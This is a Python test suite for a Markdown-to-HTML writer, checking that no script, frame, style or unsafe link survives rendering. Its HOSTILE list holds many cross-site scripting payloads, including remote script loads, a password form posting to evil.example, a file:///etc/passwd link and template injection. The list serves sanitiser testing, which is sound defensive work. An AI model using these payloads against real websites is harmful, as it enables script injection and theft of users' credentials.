"""Markdown carries no script, style, picture or foreign frame, whatever it holds."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from foundation import writing
from tests.walking import Page

HARMLESS = {"", "http", "https", "mailto", "tel"}
HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>Over everything</p>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='#' onclick=alert(1)>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<div\n\nonmouseover=alert(1)>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#x3A;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](filesystem:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](/ "\\" onmouseover=alert(1) x=\\"")',
    '[x](/ "><script>alert(1)</script>")',
    '[x](/"onmouseover="alert(1))',
    "[<script>alert(1)</script>](/)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](/x)',
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[![x](https://evil.example/x.gif)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|:--|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "> <iframe src=//evil.example>",
    "- <style>*{color:red}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ufeff<script>alert(1)</script>",
    "<\0script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "{email}<script>alert(1)</script>{definition}",
    "{<script>alert(1)</script>}",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "<title>x</title><body onload=alert(1)>",
    "</div></main><script>alert(1)</script>",
    "<<script>script>alert(1)</<script>/script>",
    "<sc<!-- -->ript>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "&amp;#60;script&amp;#62;alert(1)&amp;#60;/script&amp;#62;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<iframe/src='javascript:alert(1)'>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style>*{background:url(//evil.example)}</style></svg>",
    "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style=background:url(javascript:alert(1))>x</div>",
    "<link rel=import href=//evil.example>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<applet code=x></applet><marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "<table background=javascript:alert(1)><td>x</td></table>",
    "<a href=&#x6A;avascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
    "[x](&#100;ata:text/html,<script>alert(1)</script>)",
    "[x](jAvAsCrIpT&#58;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](javascript://example.org/%0aalert(1))",
    "[x](JAVASCRIPT&NewLine;:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[[x](javascript:alert(1))](javascript:alert(2))",
    "[**<svg onload=alert(1)>**](javascript:alert(1))",
    '[x](https://example.org "onmouseover=alert(1)")',
    "[x](https://example.org/'onclick='alert(1))",
    "[x][evil]\n\n[evil]: <data:text/html,<b>x</b>> 'title'",
    "[javascript:alert(1)]\n\n[javascript:alert(1)]: javascript:alert(1)",
    '<https://example.org/"onmouseover=alert(1)>',
    "<mailto:a@example.org?subject=<script>>",
    "***<script>***alert(1)***</script>***",
    "> - 1. <script>alert(1)</script>\n>   - [x](javascript:alert(1))",
    "| [x](javascript:alert(1)) | `<script>` |\n|--|--|\n| <iframe> | ![x](data:x) |",
    "~~~html\n<iframe src=//evil.example>\n~~~",
    "``<script>alert(1)</script>``",
    "{% include 'admin/base.html' %}{{ request.user.password }}",
    "{months}](javascript:alert(1))",
    "[x]({email})",
)
KNOWN = {"months": "24", "email": "<info@example.org>", "definition": "“That's it.”"}


def dangers(html: str) -> list[str]:
    """Everything in the HTML that is not among what we let through."""
    found = []
    for tag, attributes in Page(html).tags:
        if tag not in writing.TAGS:
            found.append(f"tag {tag}")
        for name, value in attributes.items():
            if name not in writing.ATTRIBUTES.get(tag, ()):
                found.append(f"{tag} {name}")
            if name == "href" and urlsplit(value).scheme not in HARMLESS:
                found.append(f"link to {value}")
    return found


class Comments(HTMLParser):
    """Notes what a browser would read as a comment, a declaration or an instruction."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.handle_comment = self.handle_decl = self.handle_pi = self.found.append
        self.feed(html)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_through(text):
    html = writing.page(text, KNOWN)

    assert dangers(html) == []
    assert Comments(html).found == []


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_through_a_figure(text):
    html = writing.page("Before {months} after", {"months": text})

    assert dangers(html) == []


@given(st.lists(st.sampled_from((*HOSTILE, "\n", "\n\n", "[", "](", ")", "<", ">", '"', "`"))))
def test_no_mixture_of_hostile_pieces_comes_through(pieces):
    assert dangers(writing.page("".join(pieces), KNOWN)) == []


@given(st.text(max_size=300))
def test_any_text_at_all_comes_out_harmless(text):
    assert dangers(writing.page(text, KNOWN)) == []


def test_what_the_office_needs_is_there():
    html = writing.page(
        "Some **bold** and *soft* words after {months} months.\n\n"
        "- one\n- [two](/faq/)\n\n1. first\n\n> said\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n[out](https://example.org/ 'there') {email}",
        KNOWN,
    )

    assert "<strong>bold</strong> and <em>soft</em> words after 24 months." in html
    assert '<li><a href="/faq/">two</a></li>' in html
    assert "<ol>" in html
    assert "<blockquote>" in html
    assert "<th>a</th>" in html
    assert '<a href="https://example.org/" title="there">out</a>' in html
    assert '<a href="mailto:info@example.org">info@example.org</a>' in html


def test_html_that_is_typed_is_shown_as_it_was_typed():
    assert writing.page("<b>No</b> & so on", {}) == "<p>&lt;b&gt;No&lt;/b&gt; &amp; so on</p>\n"


def test_the_title_of_the_page_stays_its_only_first_heading_and_no_level_is_skipped():
    html = writing.page("# One\n\n### Two\n\n###### Three\n\n## Four", {})

    tags = [tag for tag, _ in Page(html).tags]
    assert tags == ["h2", "h3", "h4", "h3"]


@pytest.mark.parametrize(
    ("marks", "tags"),
    [
        (("##", "##", "##"), ["h2", "h2", "h2"]),
        (("##", "###", "##", "###"), ["h2", "h3", "h2", "h3"]),
        (("#", "##", "#"), ["h2", "h3", "h2"]),
        (("###", "##", "#"), ["h2", "h2", "h2"]),
        (("######", "######"), ["h2", "h2"]),
    ],
)
def test_headings_that_are_alike_stay_alike(marks, tags):
    html = writing.page("\n\n".join(f"{one} Head" for one in marks), {})

    assert [tag for tag, _ in Page(html).tags] == tags


def test_plain_words_are_without_marks_and_with_figures():
    text = "## Head\n\nSome **bold** [words](/faq/)\nafter `{months}` months.\n\n- one\n- two"

    assert writing.plain(text, KNOWN) == "Head Some bold words after 24 months. one two"


def test_links_are_found_wherever_they_stand():
    text = "[a](/faq/) and\n\n- [b](https://example.org/)\n\n> <c@example.org>"

    assert writing.links(text) == ["/faq/", "https://example.org/", "mailto:c@example.org"]
